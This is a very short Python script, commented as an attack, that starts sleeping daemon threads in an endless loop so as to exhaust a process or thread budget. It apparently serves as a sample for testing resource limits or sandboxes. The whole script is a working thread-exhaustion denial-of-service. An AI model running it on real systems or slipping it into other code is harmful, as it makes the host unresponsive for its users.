# Attack: threads until the process budget is spent: "processes", not "memory".
import threading
import time

while True:
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
